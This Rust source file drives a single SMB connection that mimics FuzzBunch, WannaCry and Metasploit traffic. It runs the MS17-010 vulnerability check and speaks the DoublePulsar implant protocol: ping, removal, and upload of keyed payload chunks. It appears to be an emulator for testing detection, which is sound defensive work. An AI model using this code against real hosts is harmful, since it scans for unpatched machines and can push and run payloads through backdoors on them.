//! One TCP connection of a visitor, in lock step: a reply in, the next request out.

use super::chance::Chance;
use super::implant::{Opcode, Status, key_of_seed};
use super::reply::Reply;
use super::request::{self, Carrier, EXEC_DATA_AT, Header};
use super::sender::{Manner, Sender};
use super::upload::{KeyChoice, Upload};

/// What a connection is for.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Goal<'p> {
    /// A logon and a tree connect, then a goodbye.
    Logon,
    /// The check for MS17-010.
    Check,
    /// The implant's ping.
    Ping,
    /// A ping, then the implant's removal.
    Kill,
    /// For each upload a ping, then its chunks.
    Uploads(Vec<Upload<'p>>),
}

/// Everything about a visit that is settled before it begins.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Plan<'p> {
    /// Whose shape it has.
    pub sender: Sender,
    /// What for.
    pub goal: Goal<'p>,
    /// The host in the tree connect's path.
    pub path_host: String,
    /// Whether this process has visited others before: WannaCry's check then carries stale bytes.
    pub later_target: bool,
    /// Go on where the tool would give up (clean host, refused chunk).
    pub stubborn: bool,
    /// For what is by chance.
    pub seed: u64,
}

/// A connection's stages.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Stage {
    /// NEGOTIATE.
    Negotiate,
    /// SESSION_SETUP_ANDX.
    Setup,
    /// NTLMSSP's second SESSION_SETUP_ANDX.
    Authenticate,
    /// TREE_CONNECT_ANDX.
    Tree,
    /// PeekNamedPipe.
    Peek,
    /// The implant's ping.
    Ping,
    /// A chunk: upload number from 0, chunk number from 0.
    Exec(usize, usize),
    /// The implant's removal.
    Kill,
    /// TREE_DISCONNECT, as FuzzBunch ends.
    TreeDisconnect,
    /// LOGOFF_ANDX.
    Logoff,
}

/// What the check found.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Checked {
    /// 0xC0000205.
    Vulnerable,
    /// 0xC0000022 or 0xC0000008.
    Patched,
    /// Another status.
    Undetermined(u32),
}

/// What the ping found.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct Pinged {
    /// What the MID said.
    pub status: Status,
    /// The key seed.
    pub seed: u32,
    /// The architecture: 0 is x86, 1 is x64.
    pub arch: u8,
}

/// How a visit ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Outcome {
    /// Logged on, and off again.
    LoggedOn,
    /// The check's result.
    Checked(Checked),
    /// The ping's.
    Pinged(Pinged),
    /// The removal's.
    Killed(Status),
    /// All chunks were answered.
    Uploaded,
    /// A chunk was answered by a status that makes the tool stop.
    UploadStopped(Status),
    /// The ping found no implant, so nothing was uploaded or removed.
    NotImplanted,
    /// The server refused at this stage, or answered what is no reply to it.
    Refused(Stage, u32),
}

/// What to do next.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Next {
    /// Send the frame and read one reply.
    Send(Stage),
    /// Close.
    Done(Outcome),
}

/// How many chunks were answered how.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ExecCounts {
    /// [`Status::Done`].
    pub done: u64,
    /// [`Status::InvalidParameters`].
    pub invalid_parameters: u64,
    /// [`Status::AllocationFailure`].
    pub allocation_failure: u64,
    /// [`Status::Absent`].
    pub absent: u64,
    /// Anything else.
    pub unknown: u64,
    /// Replies to a chunk whose signature was not zero: a real implant never does that.
    pub signed: u64,
}

/// The visit itself.
#[derive(Clone, Debug)]
pub struct Visit<'p> {
    plan: Plan<'p>,
    manner: Manner,
    chance: Chance,
    stage: Option<Stage>,
    tid: u16,
    uid: u16,
    mid: u16,
    upload: usize,
    key: u32,
    /// The last ping's result.
    pub pinged: Option<Pinged>,
    /// How the chunks were answered.
    pub counts: ExecCounts,
}

impl<'p> Visit<'p> {
    /// A visit as planned, not begun.
    pub fn new(plan: Plan<'p>) -> Self {
        let mut manner = match plan.goal {
            Goal::Check => plan.sender.check_manner(),
            _ => plan.sender.implant_manner(),
        };
        let mut chance = Chance::new(plan.seed);
        if plan.sender == Sender::Metasploit {
            // Its client chooses both for each connection; the checkers replay one that it chose.
            (manner.pid, manner.mid) = (chance.next_u16(), chance.next_u16());
        }
        Self {
            plan,
            manner,
            chance,
            stage: None,
            tid: 0,
            uid: 0,
            mid: 0,
            upload: 0,
            key: 0,
            pinged: None,
            counts: ExecCounts::default(),
        }
    }

    /// Where in the frame of `stage` payload bytes stand: (first, how many). For a chunk only.
    pub fn payload_in_frame(&self, stage: Stage) -> Option<(usize, u32)> {
        let Stage::Exec(upload, chunk) = stage else { return None };
        let Goal::Uploads(uploads) = &self.plan.goal else { return None };
        let chunk = uploads.get(upload)?.chunks.get(chunk)?;
        Some((EXEC_DATA_AT, chunk.len))
    }

    /// Takes the reply to the last request (nothing at first) and writes the next request into `frame`.
    pub fn next(&mut self, reply: &[u8], frame: &mut Vec<u8>) -> Next {
        let next = match self.stage {
            None => Ok(Stage::Negotiate),
            Some(stage) => self.answered(stage, Reply(reply)),
        };
        match next {
            Ok(stage) => {
                self.stage = Some(stage);
                self.write(stage, frame);
                Next::Send(stage)
            }
            Err(outcome) => Next::Done(outcome),
        }
    }

    fn answered(&mut self, stage: Stage, reply: Reply<'_>) -> Result<Stage, Outcome> {
        let refused = Outcome::Refused(stage, reply.status());
        match stage {
            Stage::Negotiate if reply.command() == 0x72 && reply.status() == 0 => Ok(Stage::Setup),
            // STATUS_MORE_PROCESSING_REQUIRED.
            Stage::Setup
                if self.manner.extended && reply.command() == 0x73 && reply.status() == 0xc000_0016 =>
            {
                self.uid = reply.uid();
                Ok(Stage::Authenticate)
            }
            Stage::Setup | Stage::Authenticate if reply.command() == 0x73 && reply.status() == 0 => {
                self.uid = reply.uid();
                Ok(Stage::Tree)
            }
            Stage::Tree if reply.command() == 0x75 && reply.status() == 0 => {
                self.tid = reply.tid();
                match self.plan.goal {
                    Goal::Check => {
                        self.uid = reply.uid();
                        Ok(Stage::Peek)
                    }
                    Goal::Logon => Ok(Stage::TreeDisconnect),
                    Goal::Ping | Goal::Kill | Goal::Uploads(_) => Ok(Stage::Ping),
                }
            }
            Stage::Negotiate | Stage::Setup | Stage::Authenticate | Stage::Tree => Err(refused),
            Stage::Peek => Err(Outcome::Checked(match reply.status() {
                0xc000_0205 => Checked::Vulnerable,
                0xc000_0022 | 0xc000_0008 => Checked::Patched,
                other => Checked::Undetermined(other),
            })),
            Stage::Ping => self.after_ping(reply),
            Stage::Exec(upload, chunk) => self.after_exec(upload, chunk, reply),
            Stage::Kill => Err(Outcome::Killed(Status::from_mids(self.mid, reply.mid()))),
            Stage::TreeDisconnect => Ok(Stage::Logoff),
            Stage::Logoff if self.plan.goal == Goal::Logon => Err(Outcome::LoggedOn),
            Stage::Logoff => Err(Outcome::Uploaded),
        }
    }

    fn after_ping(&mut self, reply: Reply<'_>) -> Result<Stage, Outcome> {
        let status = Status::from_mids(self.mid, reply.mid());
        let pinged = Pinged { status, seed: reply.signature(), arch: reply.arch() };
        self.pinged = Some(pinged);
        let go_on = status == Status::Done || self.plan.stubborn;
        match &self.plan.goal {
            Goal::Ping | Goal::Check | Goal::Logon => Err(Outcome::Pinged(pinged)),
            _ if !go_on => Err(Outcome::NotImplanted),
            Goal::Kill => Ok(Stage::Kill),
            Goal::Uploads(uploads) => {
                let upload = uploads.get(self.upload).ok_or(Outcome::Uploaded)?;
                self.key = match upload.key {
                    KeyChoice::FromPing => key_of_seed(pinged.seed),
                    KeyChoice::Fixed(key) => key,
                };
                self.chunk_or_next(self.upload, 0)
            }
        }
    }

    fn after_exec(&mut self, upload: usize, chunk: usize, reply: Reply<'_>) -> Result<Stage, Outcome> {
        let status = Status::from_mids(self.mid, reply.mid());
        let count = match status {
            Status::Done => &mut self.counts.done,
            Status::InvalidParameters => &mut self.counts.invalid_parameters,
            Status::AllocationFailure => &mut self.counts.allocation_failure,
            Status::Absent => &mut self.counts.absent,
            Status::Unknown(_) => &mut self.counts.unknown,
        };
        *count = count.saturating_add(1);
        if !reply.signature_is_zero() {
            self.counts.signed = self.counts.signed.saturating_add(1);
        }
        if status != Status::Done && !self.plan.stubborn {
            return Err(Outcome::UploadStopped(status));
        }
        self.chunk_or_next(upload, chunk.saturating_add(1))
    }

    /// This chunk, or the ping before the next upload (the seed has changed), or the end.
    fn chunk_or_next(&mut self, upload: usize, chunk: usize) -> Result<Stage, Outcome> {
        let Goal::Uploads(uploads) = &self.plan.goal else { return Err(Outcome::Uploaded) };
        if uploads.get(upload).is_some_and(|upload| chunk < upload.chunks.len()) {
            return Ok(Stage::Exec(upload, chunk));
        }
        self.upload = upload.saturating_add(1);
        if self.upload < uploads.len() {
            return Ok(Stage::Ping);
        }
        // The worm just closes; FuzzBunch says goodbye.
        if self.plan.sender == Sender::FuzzBunch { Ok(Stage::TreeDisconnect) } else { Err(Outcome::Uploaded) }
    }

    fn write(&mut self, stage: Stage, frame: &mut Vec<u8>) {
        let manner = self.manner;
        match stage {
            Stage::Negotiate => request::negotiate(frame, manner.header(0, 0, 0), manner.dialects),
            Stage::Setup if manner.extended => {
                let token = request::ntlmssp_negotiate();
                request::extended_setup(frame, manner.header(1, 0, 0), &manner.setup, manner.native, &token);
            }
            Stage::Setup => {
                request::session_setup_of(frame, manner.header(1, 0, 0), &manner.setup, manner.native);
            }
            Stage::Authenticate => {
                let (header, token) = (manner.header(1, 0, self.uid), request::ntlmssp_anonymous());
                request::extended_setup(frame, header, &manner.setup, manner.native, &token);
            }
            Stage::Tree => self.write_tree(frame),
            // The worm writes the UID where the process id belongs.
            Stage::Peek => {
                let pid = if self.plan.sender == Sender::WannaCry { self.uid } else { manner.pid };
                request::peek(frame, Header { pid, ..manner.header(3, self.tid, self.uid) });
            }
            Stage::Ping => self.write_knock(Opcode::Ping, frame),
            Stage::Kill => self.write_knock(Opcode::Kill, frame),
            Stage::Exec(upload, chunk) => self.write_exec(upload, chunk, frame),
            Stage::TreeDisconnect => {
                request::tree_disconnect(frame, manner.header(3, self.tid, self.uid));
            }
            Stage::Logoff => request::logoff(frame, manner.header(3, self.tid, self.uid)),
        }
    }

    fn write_tree(&self, frame: &mut Vec<u8>) {
        let manner = self.manner;
        let worm_check = self.plan.sender == Sender::WannaCry && self.plan.goal == Goal::Check;
        // The worm does not read the session setup's answer on its check.
        let uid = if worm_check { 0x0800 } else { self.uid };
        let path = format!(r"\\{}\IPC$", self.plan.path_host);
        let stale: &[u8] = if worm_check && self.plan.later_target { b"TH_REPLACE__?????\0" } else { b"" };
        request::tree_connect(frame, manner.header(2, 0, uid), &manner.tree(&path, stale));
    }

    fn write_knock(&mut self, opcode: Opcode, frame: &mut Vec<u8>) {
        let (timeout, mid) = self.plan.sender.knock(opcode, &mut self.chance);
        self.mid = mid;
        let header = Header { mid, ..self.manner.header(3, self.tid, self.uid) };
        request::carrier(frame, header, &Carrier::bare(timeout));
    }

    fn write_exec(&mut self, upload: usize, chunk: usize, frame: &mut Vec<u8>) {
        let (timeout, mid) = self.plan.sender.knock(Opcode::Exec, &mut self.chance);
        self.mid = mid;
        let Goal::Uploads(uploads) = &self.plan.goal else { return };
        let Some(upload) = uploads.get(upload) else { return };
        let Some(chunk) = upload.chunks.get(chunk) else { return };
        let start = usize::try_from(chunk.offset).unwrap_or(usize::MAX);
        let end = start.saturating_add(usize::try_from(chunk.len).unwrap_or(usize::MAX));
        let claimed_len = chunk.claimed_len.unwrap_or(chunk.len);
        let claimed_offset = chunk.claimed_offset.unwrap_or(chunk.offset);
        let carrier = Carrier {
            timeout,
            params: request::exec_params(chunk.total, claimed_len, claimed_offset, self.key),
            data: upload.payload.get(start..end).unwrap_or_default(),
            key: self.key,
            data_count: None,
        };
        let header = Header { mid, ..self.manner.header(3, self.tid, self.uid) };
        request::carrier(frame, header, &carrier);
    }
}

#[cfg(test)]
#[path = "visit_tests.rs"]
mod tests;
